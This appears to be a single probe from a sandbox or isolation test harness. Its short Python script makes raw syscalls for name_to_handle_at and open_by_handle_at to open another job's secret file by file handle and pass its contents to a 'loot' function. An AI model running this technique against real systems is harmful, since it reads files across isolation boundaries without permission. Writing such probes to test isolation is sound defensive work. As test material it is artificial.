# kind: other_jobs
# tries: open_by_handle_at
# control: none

import ctypes
import os

c = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_ubyte * 136)()
handle[0] = 128
mount = ctypes.c_int()
if c.syscall(303, -100, VICTIM["secret"].encode(), handle, ctypes.byref(mount), 0) == 0:
    root = c.syscall(257, -100, b"/", 0o200000, 0)
    fd = c.syscall(304, root, handle, 0)
    if fd >= 0:
        loot(os.read(fd, 200).decode())
